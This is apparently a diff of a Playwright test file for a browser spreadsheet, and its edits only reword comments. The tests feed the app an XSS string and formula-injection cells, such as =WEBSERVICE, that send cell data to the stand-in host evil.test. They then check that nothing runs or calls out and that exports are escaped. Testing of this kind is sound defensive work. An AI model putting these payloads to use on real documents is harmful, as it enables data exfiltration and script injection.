@@ -8,7 +8,9 @@ import { makeRows } from "./kit/rows.ts";
 import { expect, register, test } from "./kit/test.ts";
 
 const script = `<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>`;
-/** Cells that send requests, run commands or never finish in other programs, and the errors they show here. */
+/**
+ * Cells that would send requests, run commands or never finish in other programs, and the errors that they show here.
+ */
 const hostileCells = [
   '=WEBSERVICE("https://evil.test/?"&A1)',
   '=IMAGE("https://evil.test/x.png")',
@@ -24,7 +26,7 @@ const hostileCells = [
 const saved = (page: Page) => page.getByRole("status").filter({ hasText: /^Saved$/ });
 const grid = (page: Page) => page.locator("canvas").first();
 
-/** Records forbidden actions of a page: requests to other hosts, new windows, or running a script from a cell. */
+/** Records forbidden actions of a page: a request to another host, a new window, or a script run from a cell. */
 async function watch(page: Page) {
   const done: string[] = [];
   const home = new URL(process.env.VANDA_URL ?? "").host;
@@ -92,7 +94,7 @@ test("keys typed faster than the page renders are all kept, and unsaved until th
   await expect(saved(page)).toBeVisible();
   await page.keyboard.type("x");
   await expect(page.getByRole("status").filter({ hasText: "Not saved yet" })).toBeVisible();
-  // Like a key held down on a slow machine: each event arrives before the deferred work of the one before.
+  // Like a key held down on a slow machine: each event arrives before the work deferred by the previous one.
   await page.evaluate(async () => {
     for (let keys = 0; keys < 100; keys += 1) {
       document.activeElement?.dispatchEvent(new KeyboardEvent("keydown", { key: "x", bubbles: true }));
@@ -114,7 +116,7 @@ test.describe("when the engine crashes", () => {
     await page.keyboard.type("kept");
     await page.keyboard.press("Enter");
     await expect(saved(page)).toBeVisible();
-    // Like infinite recursion in a formula, for which some browsers end the whole page.
+    // Like infinite recursion in a formula, for which some browsers terminate the whole page.
     await page.evaluate(() =>
       setTimeout(() => {
         throw new WebAssembly.RuntimeError("memory access out of bounds");
@@ -180,13 +182,13 @@ test("records and views with hostile names are plain text in a live list, which 
   await expect(list).toBeHidden({ timeout: 60_000 });
   await expect(saved(page)).toBeVisible({ timeout: 60_000 });
   const rows = await downloaded(page);
-  // Escaped as text, so that no other spreadsheet reads them as formulas either.
+  // Escaped as text, so that other spreadsheets do not read them as formulas either.
   expect(rows).toEqual(expect.arrayContaining([script, ...names.slice(1).map((name) => `'${name}`)]));
   expect(rows).toHaveLength(5_001);
   expect(await whatItDid()).toEqual([]);
 });
 
-/** Changes that make the engine calculate all cells immediately, each with a formula that then never ends. */
+/** Changes that make the engine recalculate all cells immediately, each with a formula that then never ends. */
 const wholeCalculations: [name: string, formula: string, act: (page: Page) => Promise<void>][] = [
   [
     "a worksheet that is added",
